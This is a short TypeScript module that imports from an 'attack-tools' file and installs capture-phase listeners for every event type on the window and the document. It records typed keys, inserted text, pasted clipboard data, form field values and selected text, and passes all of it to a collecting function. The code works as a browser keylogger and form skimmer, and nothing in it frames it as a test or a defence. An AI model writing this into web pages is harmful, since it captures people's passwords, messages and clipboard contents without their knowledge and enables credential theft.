import { attempt, learn } from './attack-tools.ts';

const MORE = [
  'beforeinput',
  'compositionstart',
  'compositionupdate',
  'compositionend',
  'focusin',
  'focusout',
  'message',
  'messageerror',
  'selectionchange',
  'storage',
  'visibilitychange',
];

/** Keys and inserted text one after another: single letters tell little, words do. */
let typed = '';
let inserted = '';

function together(event: Event): void {
  if (event instanceof KeyboardEvent && event.type === 'keydown' && event.key.length === 1) {
    typed = (typed + event.key).slice(-400);
    learn('typed', typed);
  }
  if (event instanceof InputEvent && event.type === 'input' && event.data) {
    inserted = (inserted + event.data).slice(-400);
    learn('inserted', inserted);
  }
}

function tell(event: Event): void {
  if (event.currentTarget === window) together(event);
  const at = event.target instanceof Element ? event.target : null;
  const field = at && 'value' in at ? at.value : '';
  const parts = [
    Reflect.get(event, 'key'),
    Reflect.get(event, 'data'),
    attempt(() => (event as ClipboardEvent).clipboardData?.getData('text/plain')),
    field,
    event
      .composedPath()
      .map((step) => (step instanceof Element ? step.tagName : ''))
      .join('<'),
    event.type === 'selectionchange' ? String(getSelection()) : '',
  ];
  learn(`event ${event.type}`, at?.tagName ?? '', ...parts.map((part) => part ?? ''));
}

/** Listens to every kind of event there is, in the capture phase of the window and of the document. */
export function listen(): void {
  const kinds = new Set(MORE);
  for (const owner of [window, document, HTMLElement.prototype]) {
    for (const name in owner) if (name.startsWith('on')) kinds.add(name.slice(2));
  }
  for (const kind of kinds) {
    addEventListener(kind, tell, true);
    document.addEventListener(kind, tell, { capture: true, passive: true });
  }
}
